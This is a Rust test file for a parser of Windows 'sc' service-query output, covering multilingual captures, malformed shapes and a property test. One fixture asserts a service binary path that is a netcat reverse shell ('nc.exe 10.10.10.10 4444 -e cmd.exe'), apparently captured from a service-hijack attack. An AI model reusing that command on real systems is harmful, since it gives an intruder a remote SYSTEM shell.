//! `sc` parser: real captures (tests/fixtures/parse/sc, each naming its source), one named case per
//! odd shape, and a property test of the line accounting.

use crate::parse_common;

use parse_common::{assert_accounted, fixture, lines_text};
use proptest::prelude::*;
use sacdoc_parse::sc::{self, ServiceState, StartType};

#[test]
fn en_qc_delayed_auto_start_with_trailing_spaces() {
    let input = fixture("sc", "en_qc_usosvc_delayed.txt");
    let out = sc::parse(&input);
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    assert_eq!(out.statuses[0].operation, "QueryServiceConfig");
    let s = out.service("UsoSvc").expect("usosvc block");
    let st = s.start_type.as_ref().expect("start type");
    assert_eq!((st.code, st.start_type, st.delayed), (2, Some(StartType::Auto), true));
    assert_eq!(
        s.service_type.as_ref().map(|t| (t.code, t.text.as_str())),
        Some((0x20, "WIN32_SHARE_PROCESS"))
    );
    assert_eq!(s.error_control.as_ref().map(|e| e.code), Some(1));
    assert_eq!(
        s.binary_path.as_deref(),
        Some(r"C:\Users\mssql-svc\Desktop\nc.exe 10.10.10.10 4444 -e cmd.exe")
    );
    assert_eq!(s.load_order_group.as_deref(), Some(""));
    assert_eq!(s.tag, Some(0));
    assert_eq!(s.display_name.as_deref(), Some("Update Orchestrator Service"));
    assert_eq!(s.dependencies, vec!["rpcss"]);
    assert_eq!(s.start_name.as_deref(), Some("LocalSystem"));
    assert_accounted(&input, &out.consumed_lines, &out.unparsed);
}

#[test]
fn en_query_state_by_number_with_trailing_spaces() {
    let input = fixture("sc", "en_query_usosvc_trailing_spaces.txt");
    let out = sc::parse(&input);
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    let s = &out.services[0];
    assert_eq!(s.name, "UsoSvc");
    assert_eq!(s.state_code(), Some(4));
    assert_eq!(s.state.as_ref().and_then(|st| st.state), Some(ServiceState::Running));
    assert_eq!(s.service_type.as_ref().map(|t| t.code), Some(0x30));
    assert_eq!(s.controls, vec!["STOPPABLE", "NOT_PAUSABLE", "ACCEPTS_SHUTDOWN"]);
    assert_eq!(
        (s.win32_exit_code, s.service_exit_code, s.checkpoint, s.wait_hint),
        (Some(0), Some(0), Some(0), Some(0))
    );
}

#[test]
fn zh_qc_success_word_translated() {
    let out = sc::parse(&fixture("sc", "zh_qc_postgresql.txt"));
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    assert_eq!(out.statuses[0].text, "成功");
    let s = out.service("postgresql-x64-18").expect("block");
    assert_eq!(s.start_type_code(), Some(2));
    assert_eq!(s.start_name.as_deref(), Some(r"NT AUTHORITY\NetworkService"));
    assert_eq!(s.dependencies, vec!["RPCSS"]);
}

#[test]
fn zh_error_code_and_message() {
    let input = fixture("sc", "zh_error_1051.txt");
    let out = sc::parse(&input);
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    assert_eq!(out.errors.len(), 1);
    let e = &out.errors[0];
    assert_eq!((e.operation.as_str(), e.code), ("ControlService", 1051));
    assert_eq!(e.message, "停止控制被发送到其他正在运行的服务所依赖的服务。");
    assert_accounted(&input, &out.consumed_lines, &out.unparsed);
}

#[test]
fn zh_access_denied_after_two_blank_lines() {
    let out = sc::parse(&fixture("sc", "zh_access_denied.txt"));
    assert_eq!(out.errors[0].code, 5);
    assert_eq!(out.errors[0].operation, "OpenService");
    assert_eq!(out.errors[0].message, "拒绝访问。");
    assert!(out.services.is_empty());
}

#[test]
fn zh_kernel_driver_empty_values_and_spaced_group() {
    let out = sc::parse(&fixture("sc", "zh_qc_kernel_driver.txt"));
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    let s = &out.services[0];
    assert_eq!(
        s.service_type.as_ref().map(|t| (t.code, t.text.as_str())),
        Some((1, "KERNEL_DRIVER"))
    );
    assert_eq!(s.start_type.as_ref().and_then(|t| t.start_type), Some(StartType::Demand));
    assert_eq!(s.load_order_group.as_deref(), Some("Camera LowerFilters Extend"));
    assert!(s.dependencies.is_empty());
    assert_eq!(s.start_name.as_deref(), Some(""));
}

#[test]
fn zh_doubled_blank_lines_keep_one_block() {
    let input = fixture("sc", "zh_query_doubled_blank_lines.txt");
    let out = sc::parse(&input);
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    assert_eq!(out.services.len(), 1);
    assert_eq!(out.services[0].state_code(), Some(4));
    assert_eq!(out.services[0].controls.len(), 3);
    assert_eq!(out.services[0].wait_hint, Some(0));
    assert_accounted(&input, &out.consumed_lines, &out.unparsed);
}

#[test]
fn de_dependency_list_continues_on_unlabelled_lines() {
    let out = sc::parse(&fixture("sc", "de_qc_dependencies.txt"));
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    assert_eq!(out.statuses[0].text, "ERFOLG");
    let s = out.service("WireGuardTunnel$wg-sf35022").expect("block");
    assert_eq!(s.dependencies, vec!["Nsi", "TcpIp"]);
    assert_eq!(s.display_name.as_deref(), Some("WireGuard Tunnel: wg-sf35022"));
    assert_eq!(s.start_name.as_deref(), Some("LocalSystem"));
}

#[test]
fn de_missing_service_message_without_blank_line() {
    let out = sc::parse(&fixture("sc", "de_missing_1060.txt"));
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    assert!(out.service_missing());
    let e = &out.errors[0];
    assert_eq!(e.operation, "EnumQueryServicesStatus:OpenService");
    assert_eq!(e.message, "Der angegebene Dienst ist kein installierter Dienst.");
}

#[test]
fn fr_success_word_with_plural_mark() {
    let out = sc::parse(&fixture("sc", "fr_qc_reussite.txt"));
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    assert_eq!(out.statuses[0].operation, "QueryServiceConfig");
    assert_eq!(out.statuses[0].text, "réussite(s)");
    assert_eq!(out.services[0].start_type_code(), Some(2));
}

// Named shapes with no public capture; constructed from the grammar in
// shared/reference/command-outputs.md §4 (not captures).

#[test]
fn shape_translated_labels_read_by_value_shape() {
    // GUESS shape: translated field labels (unverified in captures); values keep numbers and names.
    let input = "SERVICE_NAME: TermService\n        TYP                : 20  WIN32_SHARE_PROCESS\n        ZUSTAND            : 1  STOPPED\n        WIN32_EXITCODE     : 1077  (0x435)\n        DIENST_EXITCODE    : 0  (0x0)\n        PRUEFPUNKT         : 0x0\n        WARTEHINWEIS       : 0x0\n";
    let out = sc::parse(input);
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    let s = &out.services[0];
    assert_eq!(s.state.as_ref().and_then(|st| st.state), Some(ServiceState::Stopped));
    assert_eq!(s.service_type.as_ref().map(|t| t.code), Some(0x20));
    assert_eq!((s.win32_exit_code, s.service_exit_code), (Some(1077), Some(0)));
    assert_eq!((s.checkpoint, s.wait_hint), (Some(0), Some(0)));
    assert_accounted(input, &out.consumed_lines, &out.unparsed);
}

#[test]
fn shape_queryex_pid_and_empty_flags() {
    let input = "\r\nSERVICE_NAME: TermService\r\n        TYPE               : 20  WIN32_SHARE_PROCESS\r\n        STATE              : 4  RUNNING\r\n                                (STOPPABLE, NOT_PAUSABLE, ACCEPTS_SHUTDOWN)\r\n        WIN32_EXIT_CODE    : 0  (0x0)\r\n        SERVICE_EXIT_CODE  : 0  (0x0)\r\n        CHECKPOINT         : 0x0\r\n        WAIT_HINT          : 0x0\r\n        PID                : 1044\r\n        FLAGS              :\r\n";
    let out = sc::parse(input);
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    assert_eq!(out.pid_of("termservice"), Some(1044));
    assert_eq!(out.services[0].flags.as_deref(), Some(""));
}

#[test]
fn shape_enumeration_with_display_names_and_stray_cr() {
    let input = "\rSERVICE_NAME: AppIDSvc\rDISPLAY_NAME: Application Identity\r        TYPE               : 30  WIN32  \r        STATE              : 1  STOPPED \r\rSERVICE_NAME: BFE\nDISPLAY_NAME: Base Filtering Engine\n        STATE              : 4  RUNNING\n";
    let out = sc::parse(input);
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    assert_eq!(out.services.len(), 2);
    assert_eq!(out.services[0].display_name.as_deref(), Some("Application Identity"));
    assert_eq!(out.services[1].state_code(), Some(4));
    assert_accounted(input, &out.consumed_lines, &out.unparsed);
}

#[test]
fn shape_binary_path_wrapped_at_80_columns() {
    let first = format!("        BINARY_PATH_NAME   : C:\\Program Files\\{}", "A".repeat(80 - 46));
    assert_eq!(first.chars().count(), 80);
    let input = format!("SERVICE_NAME: x\n        START_TYPE         : 3   DEMAND_START\n{first}\n\\svc.exe -k\n        TAG                : 0\n");
    let out = sc::parse(&input);
    assert!(out.unparsed.is_empty(), "{:?}", out.unparsed);
    let bp = out.services[0].binary_path.as_deref().expect("binary path");
    assert!(bp.ends_with(&format!("{}\\svc.exe -k", "A".repeat(34))), "{bp}");
    assert_accounted(&input, &out.consumed_lines, &out.unparsed);
}

#[test]
fn shape_state_number_outside_known_range_keeps_text() {
    let out = sc::parse("SERVICE_NAME: x\n        STATE              : 9  WEIRD_STATE\n");
    let st = out.services[0].state.as_ref().expect("state");
    assert_eq!((st.code, st.state, st.text.as_str()), (9, None, "WEIRD_STATE"));
}

#[test]
fn shape_garbage_is_kept_not_dropped() {
    let input = "hello\n        TYPE : 20  WIN32\n(STOPPABLE)\n";
    let out = sc::parse(input);
    assert!(out.services.is_empty());
    assert_eq!(out.unparsed.len(), 3);
    assert_accounted(input, &out.consumed_lines, &out.unparsed);
}

#[test]
fn state_and_start_type_numbers_round_trip() {
    for s in ServiceState::ALL {
        assert_eq!(ServiceState::from_code(s.code()), Some(s));
    }
    assert_eq!(ServiceState::from_code(4), Some(ServiceState::Running));
    assert_eq!((ServiceState::from_code(0), ServiceState::from_code(8)), (None, None));
    for t in StartType::ALL {
        assert_eq!(StartType::from_code(t.code()), Some(t));
    }
    assert_eq!(StartType::from_code(3), Some(StartType::Demand));
    assert_eq!(StartType::from_code(5), None);
}

fn line_strategy() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        "[ -~]{0,90}",
        Just("SERVICE_NAME: TermService".to_string()),
        Just("DISPLAY_NAME: Remote Desktop Services".to_string()),
        Just("        STATE              : 4  RUNNING".to_string()),
        Just("        TYPE               : 20  WIN32_SHARE_PROCESS".to_string()),
        Just("                                (STOPPABLE, NOT_PAUSABLE)".to_string()),
        Just("        DEPENDENCIES       : RPCSS".to_string()),
        Just("                           : TermDD".to_string()),
        Just("[SC] OpenService FAILED 1060:".to_string()),
        Just("[SC] QueryServiceConfig SUCCESS".to_string()),
        Just(format!("        BINARY_PATH_NAME   : {}", "x".repeat(53))),
        Just(String::new()),
        Just("   ".to_string()),
    ]
}

proptest! {
    #[test]
    fn any_text_is_accounted_for(input in lines_text(line_strategy())) {
        let out = sc::parse(&input);
        assert_accounted(&input, &out.consumed_lines, &out.unparsed);
        serde_json::to_string(&out).expect("serializes");
    }
}
